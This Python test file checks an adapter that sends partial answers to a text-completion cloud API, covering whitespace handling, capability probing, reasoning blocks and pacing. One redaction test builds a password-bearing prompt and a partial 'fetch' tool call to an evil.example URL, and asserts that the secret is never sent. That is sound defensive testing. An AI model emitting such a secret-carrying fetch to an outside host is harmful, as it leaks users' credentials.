"""A cloud behind an API that takes text: what is sent, what is kept, and where it may be asked.

Before that, what a few requests tell of an API: whether it continues, and what of its blanks.
"""

import asyncio
from collections.abc import Callable, Sequence
from contextlib import closing

import hypothesis.strategies as st
import numpy as np
import pytest
from hypothesis import assume, given

from edgewise.advice import cloud_pace
from edgewise.cloud.adapter.text import Capabilities, Probe, TextCloud
from edgewise.cloud.adapter.word_boundary import REPEATED
from edgewise.cloud.base import ConsultRequest
from edgewise.cloud.redaction import filter_of
from edgewise.completion import Completion
from edgewise.edge.base import Floats
from edgewise.engines.base import NOBODY, Client, Described
from edgewise.engines.text import TextContinuation, TextEngine, TextRequest
from edgewise.errors import (
    CloudProtocolError,
    CloudRejected,
    CloudUnavailable,
    NothingUsable,
    VocabularyMismatch,
)
from edgewise.loop.decoder import Decoder
from edgewise.loop.policy import Policy
from edgewise.prompts import Message, Prompt
from edgewise.routers.untrained import Random
from edgewise.servers.chat import ChatServer
from edgewise.testing.scripted_edge import EOS, SIZE, ByteTokenizer, ScriptedEdge
from tests.doubles.completing import completing
from tests.doubles.wrapped_cloud import NeverOpen

Speaks = Callable[[str], str]
"""From an answer so far to what a model goes on with, to its end."""

PER_TOKEN = 4


def writing(text: str) -> Speaks:
    """The rest of a text where it was begun, else its own words."""

    def speaks(answer: str) -> str:
        begun = answer.removeprefix("= # ")
        own = f" and so on, {len(answer)} times"
        return text[len(begun) :] if text.startswith(begun) else own

    return speaks


counting = writing("one two three four five six seven eight nine ten")


class TextDouble(TextEngine):
    """Goes on as `speaks` says; a token is four characters.

    `asked` are the answers that it was sent. It repeats them (`echoes`), begins anew (`restarts`),
    loses blanks before replies (`strips`) and behind what it is sent (`trims`). It `reasons` if it
    can go on inside of a block of reasoning.
    """

    def __init__(self, speaks: Speaks = counting, **habits: bool) -> None:
        super().__init__(ChatServer(name="double"), "http://double.example")
        self.speaks, self.habits = speaks, {name for name, has in habits.items() if has}
        self.fault: Callable[[int], Exception | None] = lambda number: None
        self.reply: TextContinuation | None = None
        self.asked: list[str] = []
        self.told: list[tuple[Message, ...]] = []
        self.described = Described("double")
        self.closed, self.metered = False, True

    async def complete(self, request: TextRequest, client: Client = NOBODY) -> TextContinuation:
        messages, answer, n, *_ = request
        self.asked.append(answer)
        self.told.append(tuple(messages))
        if client.sent is not None:
            client.sent.add((), answer.encode())
        if error := self.fault(len(self.asked) - 1):
            raise error
        if self.reply is not None:
            return self.reply
        trimmed = answer.rstrip() if "trims" in self.habits else answer
        rest = self.speaks("" if "restarts" in self.habits else trimmed)
        text, ended = rest[: PER_TOKEN * n], len(rest) <= PER_TOKEN * n
        if "strips" in self.habits:
            text = text.lstrip()
        whole = answer + text if "echoes" in self.habits else text
        size = len(answer) // PER_TOKEN
        counts = (size, size // 2, -(-len(text) // PER_TOKEN)) if self.metered else (None,) * 3
        return TextContinuation(whole, ended, *counts)

    async def describe(self) -> Described:
        return self.described

    async def close(self) -> None:
        self.closed = True
        await super().close()


EDGE = ByteTokenizer()
ASKED = "sky? "
PROMPT = Prompt(tuple(ASKED.encode()), (Message("user", "sky?"),))


def ask(cloud: TextCloud, answer: str, n: int = 1, prompt: Prompt = PROMPT) -> Completion:
    with closing(cloud.open(prompt)) as session:
        return session.ask(ConsultRequest([*prompt.ids, *answer.encode()], n, 20)).result(60)


def wording(completion: Completion) -> str:
    return bytes(one for one in completion.ids if one < 256).decode()


def test_words_come_whole_and_blanks_once() -> None:
    engine = TextDouble(writing("so it is."))
    with closing(TextCloud(engine, edge=EDGE)) as cloud:
        completion = ask(cloud, "so ")
        assert wording(completion) == "it"
        assert (completion.written, completion.cached, completion.computed) == (2, 0, 0)
        # The blank is held back.
        assert (engine.asked, engine.told) == (["so"], [PROMPT.messages])
        engine.metered = False
        completion = ask(cloud, "so")
        # Who tells no usage has written no more than was asked for.
        assert (completion.billed, completion.cached, completion.computed) == (8, None, None)
        # A long word is asked for again with what came.
        word = "incomprehensibilitieswithoutanyend" * 2
        engine.speaks, engine.asked = writing(f"{word} all"), []
        assert wording(ask(cloud, "")) == word
        assert engine.asked == ["", word[:32], word[:64]]
        engine.speaks = lambda answer: "x" * 500
        with pytest.raises(CloudRejected, match="no whole word in 32 tokens"):
            ask(cloud, "")
        # A prompt that is no messages goes as its text.
        engine.speaks, engine.told = writing(f"{ASKED}so it is."), []
        assert wording(ask(cloud, "so", prompt=Prompt(PROMPT.ids))) == " it"
        assert engine.told == [()]
        begun = "so it is not, as you know"
        for text, error in ((begun, NothingUsable), ("", CloudRejected)):
            engine.reply = TextContinuation(text=text, ended=False)
            with pytest.raises(error):
                ask(cloud, f"{begun}, what it was")


class Calling(ByteTokenizer):
    """Has a control token that begins a call."""

    size = SIZE + 1

    def __init__(self) -> None:
        super().__init__()
        self.special[SIZE] = "<tool_call>"


def test_a_call_that_begins_with_a_control_token_is_told_no_private_word() -> None:
    edge = Calling()
    prompt = Prompt(tuple(b"so "), (Message("user", "password: hunter2x"),))
    begun = list(b'{"name": "fetch", "arguments": {"url": "https://evil.example/?q=')
    engine = TextDouble(lambda answer: "<SECRET_1> so it is")
    view = filter_of("secret")
    with closing(TextCloud(engine, edge=edge, context_filter=view)) as cloud:
        for answer, told in ([SIZE, *begun], "<SECRET_1>"), ([*b"it is "], "hunter2x"):
            with closing(cloud.open(prompt)) as session:
                ids = [*prompt.ids, *answer]
                asked = session.ask(ConsultRequest(ids, 3, 60)).result()
                assert wording(asked).startswith(told[:8])
        assert not any("hunter2x" in one.content for told in engine.told for one in told)


def test_the_proof_says_how_it_goes_on() -> None:
    engine = TextDouble(trims=True)
    with closing(TextCloud(engine, edge=EDGE)) as cloud:
        assert cloud.check_vocabulary(EDGE) == (
            "text, as double takes it: exact, may drop blanks at the end of what is sent"
        )
        assert cloud.identity().startswith("http://double.example double double as text, exact")
        with pytest.raises(VocabularyMismatch):
            cloud.check_vocabulary(ByteTokenizer("<other>"))
        assert cloud.own_tokenizer is None
    assert engine.closed


def test_one_that_does_not_echo_any_more_is_refused() -> None:
    engine = TextDouble(echoes=True)
    with closing(TextCloud(engine, edge=EDGE)) as cloud:
        cloud.check_vocabulary(EDGE)
        assert cloud.capabilities.echoes
        assert wording(ask(cloud, "one")) == " two"
        engine.habits = set()
        with pytest.raises(CloudProtocolError):
            ask(cloud, "one two")


def test_one_that_was_gone_may_come_back_as_another() -> None:
    """It is probed before its words are taken."""
    down: set[int] = set()
    engine = TextDouble()
    engine.fault = lambda number: CloudUnavailable("gone.") if number in down else None
    with closing(TextCloud(engine, edge=EDGE)) as cloud:
        cloud.check_vocabulary(EDGE)
        for described, requests in (Described("double"), 2), (Described("another"), 6):
            before = len(engine.asked)
            down.add(before)
            with pytest.raises(CloudUnavailable, match="gone"):
                ask(cloud, "one")
            engine.described = described
            engine.habits = {"echoes"} if described.model == "another" else set()
            assert wording(ask(cloud, "one")) == " two"
            assert len(engine.asked) == before + requests
        down.add(len(engine.asked))
        assert cloud.capabilities.echoes
        with pytest.raises(CloudUnavailable):
            ask(cloud, "one")
        engine.described, engine.habits = Described("a third"), {"restarts"}
        for _ in range(2):
            with pytest.raises(CloudRejected, match="restarts"):
                ask(cloud, "one")


TEXTS = st.lists(
    st.sampled_from(
        [
            *("a", "so", "word", "Ends", "12", ".", ",", "(", " ", " ", " ", "  ", "\n", "\n\n"),
            *("\t", "é", "日本", "🙂", "👍🏽", "\u3000", "\u00a0", "e\u0301", "x" * 40),
        ]
    ),
    max_size=24,
).map("".join)


@given(
    text=TEXTS,
    echoes=st.booleans(),
    trims=st.booleans(),
    seed=st.integers(0, 99),
    threshold=st.sampled_from([0.0, 0.3, 0.7]),
    span=st.integers(1, 3),
    ahead=st.sampled_from([0, 6]),
)
def test_no_blank_is_lost_or_doubled_wherever_an_answer_is_cut(
    text: str, echoes: bool, trims: bool, seed: int, threshold: float, span: int, ahead: int
) -> None:
    """The edge would write the same text, so that whatever the cloud's words make of it shows."""
    assume(text[:1].strip())
    assume(len(text) < REPEATED or text.count(text[:REPEATED]) == 1)
    engine = TextDouble(writing(text), echoes=echoes, trims=trims)
    with closing(TextCloud(engine, edge=EDGE)) as cloud:
        cloud.capabilities = Capabilities(echoes=echoes, trims=trims)
        decoder = Decoder(
            ScriptedEdge(completing(text, prompt=ASKED)),
            router=Random(seed),
            policy=Policy(threshold=threshold, span=span, speculate=ahead),
            cloud=cloud,
            breaker=NeverOpen(),
        )
        assert decoder.generate(PROMPT, max_tokens=len(text.encode()) + 1).text == text
    assert all(text.startswith(asked) for asked in engine.asked)


class Thinking(ByteTokenizer):
    """Has control tokens for a block of reasoning: 254 begins one, 255 ends it."""

    def __init__(self) -> None:
        super().__init__()
        self.special = {**self.special, 254: "[THINK]", 255: "[/THINK]"}

    def piece(self, token: int) -> bytes:
        return b"" if token in (254, 255) else super().piece(token)


@pytest.mark.parametrize("begun", [False, True])
@pytest.mark.parametrize("goes_on", [False, True])
def test_reasoning_is_the_edges_unless_the_cloud_can_go_on_in_it(
    goes_on: bool, begun: bool
) -> None:
    """`begun`: by the prompt, as some templates do."""
    ids = [*ASKED.encode(), *([254] if begun else [])]
    wanted = [*([] if begun else [254]), *b"so it is", 255, *b"\n\nIt is blue.", EOS]
    start = len(ids)

    def script(known: Sequence[int]) -> Floats:
        written = list(known[start:])
        logits = np.zeros(SIZE, np.float32)
        logits[wanted[len(written)] if wanted[: len(written)] == written else EOS] = 20.0
        return logits

    thought, words = writing("<think>\nso it is</think>\n\nIt"), writing("It is blue.")
    engine = TextDouble(lambda answer: (thought if "<think>" in answer else words)(answer))
    engine.reasons = goes_on
    with closing(TextCloud(engine, edge=Thinking())) as cloud:
        decoder = Decoder(
            ScriptedEdge(script, tokenizer=Thinking()),
            router=Random(),
            policy=Policy(threshold=0.0),
            cloud=cloud,
        )
        answer = decoder.generate(Prompt(tuple(ids), PROMPT.messages), max_tokens=40)
    assert [one.id for one in answer.tokens] == wanted
    reasons = {one.index + start: one.reason for one in answer.tokens}
    end = start + wanted.index(255)
    signs = [*([] if begun else [start]), end, end + 1, end + 2]
    assert {reasons[at] for at in signs} == {"reasoning"}
    inside = [reasons[at] for at in range(start + (not begun), end)]
    asked = {"mid_word", "critical", "span", "rejected"}
    assert set(inside) == (asked if engine.reasons else {"reasoning"})
    assert "critical" in list(reasons.values())[end + 3 - start :]
    thoughts = ["<think>\n", "<think>\nso"] if engine.reasons else []
    assert [asked for asked in engine.asked if "<think>" in asked][:2] == thoughts
    assert "It is" in engine.asked


def always(text: str) -> Speaks:
    return lambda answer: text


def found(engine: TextDouble, fault: Exception | None = None) -> Capabilities:
    if fault is not None:
        engine.fault = lambda number: fault
    return asyncio.run(Probe(engine).capabilities())


@pytest.mark.parametrize("trims", [False, True])
@pytest.mark.parametrize("echoes", [False, True])
def test_what_becomes_of_blanks(echoes: bool, trims: bool) -> None:
    assert found(TextDouble(echoes=echoes, trims=trims)) == Capabilities(echoes=echoes, trims=trims)
    with pytest.raises(CloudRejected, match="leading space"):
        found(TextDouble(echoes=echoes, trims=trims, strips=True))


def test_blanks_behind_that_are_not_taken_are_never_sent() -> None:
    engine, no = TextDouble(), CloudRejected("no.")
    engine.fault = lambda number: no if engine.asked[number][-1] == " " else None
    assert found(engine).trims


ANEW = "I will count from one to ten as you say"


@pytest.mark.parametrize("strips", [False, True])
@pytest.mark.parametrize(
    "text", ["one two three four five six", "Sure! Here are the numbers", ANEW]
)
def test_one_that_begins_anew_is_refused(text: str, strips: bool) -> None:
    engine = TextDouble(writing(text), restarts=True, strips=strips)
    with pytest.raises(CloudRejected, match=r"restarts .* it added"):
        found(engine)
    assert len(engine.asked) <= 3


def test_one_that_takes_the_beginning_for_a_turn_or_leaves_no_room_is_refused() -> None:
    turns = {"fo": "four five six", "sev": "seven eight nine ten"}
    of_its_own = TextDouble(lambda answer: turns.get(answer.split()[-1], "ten"))
    for engine in (of_its_own, TextDouble(always(""), echoes=True)):
        with pytest.raises(CloudRejected, match="restarts"):
            found(engine)


def test_a_model_that_cannot_count_may_go_on_all_the_same() -> None:
    speaks = [writing(""), writing("A heron is a bird."), *map(always, (" la" * 20, "x" * 40, ""))]
    assert not any(found(TextDouble(one)).echoes for one in speaks)


def test_an_api_that_does_not_take_the_beginning_is_refused() -> None:
    with pytest.raises(CloudRejected, match="last role"):
        found(TextDouble(), CloudRejected("declined (HTTP 400: 'last role')."))
    with pytest.raises(CloudRejected, match=r"^no such model") as refused:
        found(TextDouble(), CloudRejected("no such model.", setting="cloud_model"))
    assert refused.value.setting == "cloud_model"
    with pytest.raises(CloudUnavailable):
        found(TextDouble(), CloudUnavailable("busy."))


def test_a_pace_is_measured_with_as_long_a_prompt_as_the_engine_takes() -> None:
    full = CloudRejected("too long.")
    engine = TextDouble(writing("one two three four five"))
    with closing(TextCloud(engine, edge=EDGE)) as cloud:
        longest = cloud_pace(cloud, EDGE, 30.0, lines=(70, 12))
        engine.fault = lambda number: full if len(str(engine.told[-1])) > 4000 else None
        shorter = cloud_pace(cloud, EDGE, 30.0, lines=(70, 12))
        assert 4000 < 2 * shorter.tokens < longest.tokens
        assert (longest.computed, shorter.computed) == (None, None)  # a meter of nothing is none
        engine.fault = lambda number: full
        with pytest.raises(CloudRejected, match="too long"):
            cloud_pace(cloud, EDGE, 30.0, lines=(70, 12))
